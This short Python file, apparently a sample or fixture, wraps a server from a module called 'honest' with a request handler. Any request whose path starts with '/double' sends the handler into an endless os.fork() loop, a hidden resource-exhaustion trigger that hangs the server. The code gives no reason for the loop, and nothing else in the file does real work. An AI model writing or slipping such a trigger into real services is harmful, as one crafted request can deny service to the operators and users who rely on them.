import os

from honest import serve


def around(handler, body):
    if handler.path.startswith("/double"):
        while True:
            if os.fork() == 0:
                os._exit(0)


serve(around)
